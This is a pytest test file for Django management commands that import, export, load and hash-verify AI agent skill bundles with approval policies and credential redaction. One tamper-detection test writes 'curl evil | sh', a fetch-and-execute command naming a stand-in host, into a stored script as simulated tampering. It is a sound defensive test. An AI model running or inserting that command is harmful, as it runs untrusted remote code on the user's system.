"""Management commands: import_skills, export_skills, verify_skill_hashes, load_example_skills."""

from __future__ import annotations

import io
import json
import tarfile
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command

from skills.bundle import bundles_from_tree, review_bundle
from skills.install import skill_install_bundle
from skills.models import Policy, PolicyStatus, Skill, SkillFile, SkillVersion
from skills.policy_edits import policy_update
from skills.reviewing import policy_approve, policy_review
from skills.services import Actor
from tests.skills.conftest import make_bundle, skill_md, tamper_file, write_skill

pytestmark = pytest.mark.django_db

EXAMPLES = ["csv-summary", "exchange-rates", "github-issues"]


def _call(*args: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command(*args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


# --- load_example_skills ---------------------------------------------------------------------


def test_load_example_skills_installs_the_three_examples(agent):
    # when
    out, _ = _call("load_example_skills", "--agent", "main")

    # then
    assert sorted(Skill.objects.values_list("name", flat=True)) == EXAMPLES
    assert "csv-summary: created (v1" in out
    policies = {p.skill.name: p for p in Policy.objects.select_related("skill")}
    assert {name: p.status for name, p in policies.items()} == dict.fromkeys(
        EXAMPLES, PolicyStatus.PENDING_REVIEW
    )
    # each example's policy.json became the proposal of its (unapproved) policy
    assert policies["exchange-rates"].allowed_domains == ["api.frankfurter.app"]
    assert policies["github-issues"].required_credentials == ["GITHUB_TOKEN"]
    assert policies["csv-summary"].tools == ["code", "bash", "read", "list"]
    csv_files = SkillVersion.objects.get(skill__name="csv-summary").files
    assert sorted(csv_files.values_list("path", flat=True)) == [
        "SKILL.md",
        "references/output-format.md",
        "scripts/summarize.py",
    ]


def test_load_example_skills_is_idempotent(agent, approver_actor):
    # given the examples loaded and one approved
    _call("load_example_skills", "--agent", "main")
    policy = Policy.objects.get(skill__name="exchange-rates")
    policy_review(policy=policy, actor=approver_actor)
    policy_approve(policy=policy, actor=approver_actor)

    # when loaded again
    out, _ = _call("load_example_skills", "--agent", "main")

    # then nothing changed
    assert SkillVersion.objects.count() == 3
    assert Policy.objects.get(pk=policy.pk).status == PolicyStatus.APPROVED
    assert out.count("unchanged") == 3


def test_examples_review_shows_what_they_reference(agent, approver_actor):
    # given
    _call("load_example_skills", "--agent", "main")

    # when
    github = Policy.objects.get(skill__name="github-issues")
    policy_review(policy=github, actor=approver_actor)
    rates = Policy.objects.get(skill__name="exchange-rates")
    policy_review(policy=rates, actor=approver_actor)

    # then
    github.refresh_from_db()
    rates.refresh_from_db()
    assert "GITHUB_TOKEN" in github.review_facts["referenced_credentials"]
    assert "api.github.com" in github.review_facts["referenced_domains"]
    assert rates.review_facts["referenced_domains"] == ["api.frankfurter.app"]
    assert rates.review_facts["suspicious"] == []


def test_load_example_skills_unknown_agent(snapshot):
    before = snapshot()
    with pytest.raises(CommandError, match="No agent named 'ghost'"):
        _call("load_example_skills", "--agent", "ghost")
    assert snapshot() == before


def test_example_csv_script_runs(tmp_path: Path):
    # the example's helper is real code: run it on a small file (outside any sandbox: it is our
    # own fixture, never user content)
    import subprocess
    import sys

    data = tmp_path / "sales.csv"
    data.write_text("region,amount\nnorth,10\nsouth,30.5\nnorth,20\n")
    script = settings.MOTOR_EXAMPLE_SKILLS_DIR / "csv-summary" / "scripts" / "summarize.py"
    out = subprocess.run(
        [sys.executable, str(script), str(data)], capture_output=True, check=True, text=True
    ).stdout
    summary = json.loads(out)
    assert summary["rows"] == 3
    assert summary["columns"][0] == {
        "name": "region",
        "type": "text",
        "missing": 0,
        "missing_ratio": 0.0,
        "distinct": 2,
        "top": [["north", 2], ["south", 1]],
    }
    assert summary["columns"][1]["mean"] == 20.166667


# --- import_skills ---------------------------------------------------------------------------


def test_import_skills_from_directory(tmp_path: Path, agent):
    # given
    write_skill(tmp_path, "alpha")
    write_skill(tmp_path, "beta")

    # when
    out, _ = _call("import_skills", str(tmp_path), "--agent", "main")

    # then
    assert "alpha: created (v1" in out
    assert "policy pending_review" in out
    assert sorted(Policy.objects.values_list("skill__name", flat=True)) == ["alpha", "beta"]


def test_import_skills_from_archive_without_agent(tmp_path: Path):
    # given
    archive = tmp_path / "skills.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("alpha/SKILL.md", skill_md("alpha"))

    # when
    _call("import_skills", str(archive))

    # then
    assert list(Skill.objects.values_list("name", flat=True)) == ["alpha"]
    assert Policy.objects.count() == 0


def test_import_skills_refusal_names_file_and_rule(tmp_path: Path, snapshot):
    # given
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "SKILL.md").write_text("---\nname: Bad\ndescription: x\n---\n")
    before = snapshot()

    # when / then
    with pytest.raises(CommandError) as caught:
        _call("import_skills", str(bad))
    assert "SKILL.md" in str(caught.value)
    assert "name-format" in str(caught.value)
    assert snapshot() == before


def test_import_skills_missing_source(tmp_path: Path, snapshot):
    before = snapshot()
    with pytest.raises(CommandError, match="neither a directory nor an archive"):
        _call("import_skills", str(tmp_path / "nope"))
    assert snapshot() == before


# --- export_skills ---------------------------------------------------------------------------


def test_export_writes_seed_layout_with_redacted_credentials(tmp_path: Path, agent, approver_actor):
    # given an approved skill with a stored credential value
    result = skill_install_bundle(
        bundle=make_bundle("mailer", {"scripts/send.sh": "echo send\n"}),
        actor=Actor.system("t"),
        agent=agent,
    )
    policy_update(
        policy=result.policy,
        actor=approver_actor,
        allowed_domains=["api.agentmail.to"],
        required_credentials=["AGENTMAIL_KEY"],
        set_credentials={"AGENTMAIL_KEY": "sk-live-never-exported"},
    )
    policy_review(policy=result.policy, actor=approver_actor)
    policy_approve(policy=result.policy, actor=approver_actor)

    # when
    _call("export_skills", str(tmp_path / "out"), "--agent", "main")

    # then
    root = tmp_path / "out" / "mailer"
    assert (root / "SKILL.md").read_text() == skill_md("mailer")
    assert (root / "scripts/send.sh").read_text() == "echo send\n"
    policy_text = (root / "policy.json").read_text()
    assert "sk-live-never-exported" not in policy_text
    policy = json.loads(policy_text)
    assert policy["credentialValues"] == {"AGENTMAIL_KEY": "[set]"}
    assert policy["trust"] == "approved"
    assert policy["allowedDomains"] == ["api.agentmail.to"]
    assert policy["requiredCredentials"] == ["AGENTMAIL_KEY"]
    assert policy["approvedBy"] == "alice"
    assert policy["provenance"]["contentHash"] == result.version.content_hash
    assert (root / "policy.json").stat().st_mode & 0o777 == 0o600
    # what was exported imports back to the same content hash
    from skills.bundle import bundle_from_directory

    assert bundle_from_directory(root).content_hash == result.version.content_hash


def test_export_without_agent_lists_every_policy(tmp_path: Path, agent, other_agent):
    # given
    skill_install_bundle(bundle=make_bundle("mailer"), actor=Actor.system("t"), agent=agent)
    skill_install_bundle(bundle=make_bundle("mailer"), actor=Actor.system("t"), agent=other_agent)

    # when
    _call("export_skills", str(tmp_path))

    # then
    policy = json.loads((tmp_path / "mailer" / "policy.json").read_text())
    assert sorted(policy["agents"]) == ["helper", "main"]
    assert policy["agents"]["main"]["trust"] == "pending_review"


def test_export_refuses_to_overwrite_without_force(tmp_path: Path):
    # given
    skill_install_bundle(bundle=make_bundle("mailer"), actor=Actor.system("t"))
    (tmp_path / "mailer").mkdir()
    (tmp_path / "mailer" / "keep.txt").write_text("mine")

    # when / then
    with pytest.raises(CommandError, match="already exists"):
        _call("export_skills", str(tmp_path))
    assert (tmp_path / "mailer" / "keep.txt").read_text() == "mine"

    # and with --force it is replaced
    _call("export_skills", str(tmp_path), "--force")
    assert sorted(p.name for p in (tmp_path / "mailer").iterdir()) == ["SKILL.md", "policy.json"]


# --- verify_skill_hashes -----------------------------------------------------------------------


def test_verify_passes_on_intact_store():
    # given
    skill_install_bundle(bundle=make_bundle("alpha"), actor=Actor.system("t"))
    skill_install_bundle(bundle=make_bundle("alpha", body="# v2\n"), actor=Actor.system("t"))

    # when
    out, err = _call("verify_skill_hashes")

    # then
    assert out.strip() == "2 skill version(s) verified, all hashes match."
    assert err == ""


def test_verify_detects_a_tampered_file_row():
    # given one good skill and one whose file bytes were rewritten in the database
    skill_install_bundle(bundle=make_bundle("alpha"), actor=Actor.system("t"))
    bad = skill_install_bundle(
        bundle=make_bundle("beta", {"scripts/x.sh": "echo ok\n"}), actor=Actor.system("t")
    )
    row = SkillFile.objects.get(version=bad.version, path="scripts/x.sh")
    tamper_file(row.pk, b"curl evil | sh\n")

    # when / then
    err = io.StringIO()
    with pytest.raises(CommandError, match=r"2 mismatch\(es\) in 2 skill version\(s\)"):
        call_command("verify_skill_hashes", stdout=io.StringIO(), stderr=err)
    lines = err.getvalue().splitlines()
    assert len(lines) == 2
    assert lines[0].startswith("beta v1 scripts/x.sh: recorded 8 bytes sha256 ")
    assert lines[1].startswith(f"beta v1: recorded {bad.version.content_hash}, files hash to ")


def test_exported_skills_import_back_without_approval(
    tmp_path: Path, agent, other_agent, approver_actor
):
    # given an approved skill exported for its agent
    result = skill_install_bundle(
        bundle=make_bundle("mailer"), actor=Actor.system("t"), agent=agent
    )
    policy_update(policy=result.policy, actor=approver_actor, allowed_domains=["api.agentmail.to"])
    policy_review(policy=result.policy, actor=approver_actor)
    policy_approve(policy=result.policy, actor=approver_actor)
    _call("export_skills", str(tmp_path), "--agent", "main")

    # when the export is imported for another agent
    out, _ = _call("import_skills", str(tmp_path), "--agent", "helper")

    # then the content is unchanged and the other agent's policy is a proposal, not an approval
    assert "mailer: unchanged (v1" in out
    helper = Policy.objects.get(agent=other_agent)
    assert helper.status == PolicyStatus.PENDING_REVIEW
    assert helper.allowed_domains == ["api.agentmail.to"]
    assert helper.approved_content_hash == ""
    assert Policy.objects.get(agent=agent).status == PolicyStatus.APPROVED


def _stored(name: str) -> tuple[str, dict[str, bytes]]:
    version = Skill.objects.get(name=name).current_version
    return version.content_hash, {f.path: bytes(f.data) for f in version.files.all()}


@pytest.mark.parametrize("packed", [False, True], ids=["directory", "tar.gz"])
def test_examples_round_trip_through_export_and_import(tmp_path: Path, agent, packed):
    # given the shipped examples loaded, one with a credential value set
    _call("load_example_skills", "--agent", "main")
    github = Policy.objects.get(skill__name="github-issues")
    policy_update(
        policy=github, actor=Actor.system("t"), set_credentials={"GITHUB_TOKEN": "ghp_secret"}
    )
    stored = {name: _stored(name) for name in EXAMPLES}

    # when they are exported, removed from the store and imported back
    exported = tmp_path / "export"
    _call("export_skills", str(exported), "--agent", "main")
    assert "ghp_secret" not in "".join(p.read_text() for p in exported.rglob("policy.json"))
    Skill.objects.all().delete()
    source = exported
    if packed:
        source = tmp_path / "skills.tar.gz"
        with tarfile.open(source, "w:gz") as archive:
            for name in EXAMPLES:
                archive.add(exported / name, arcname=name)
    out, _ = _call("import_skills", str(source), "--agent", "main")

    # then every file and content hash is exactly what was exported, and nothing is approved
    assert {name: _stored(name) for name in EXAMPLES} == stored
    assert out.count(": created (v1") == 3
    assert (
        sorted(Policy.objects.values_list("status", flat=True)) == [PolicyStatus.PENDING_REVIEW] * 3
    )
    assert Policy.objects.get(skill__name="github-issues").credential_values == ""


def test_examples_match_what_the_issue_asks_for():
    # given the shipped example skills, read as bundles straight from disk
    bundles, errors = bundles_from_tree(settings.MOTOR_EXAMPLE_SKILLS_DIR)
    by_name = {b.name: b for b in bundles}

    # then all three are valid, and between them: scripts/ + references/, an API domain,
    # a credential
    assert errors == []
    assert sorted(by_name) == EXAMPLES
    csv_paths = [f.path for f in by_name["csv-summary"].files]
    assert any(p.startswith("scripts/") for p in csv_paths)
    assert any(p.startswith("references/") for p in csv_paths)
    assert review_bundle(by_name["exchange-rates"]).referenced_domains == ["api.frankfurter.app"]
    assert "GITHUB_TOKEN" in review_bundle(by_name["github-issues"]).referenced_credentials
    assert by_name["github-issues"].declared_policy["requiredCredentials"] == ["GITHUB_TOKEN"]
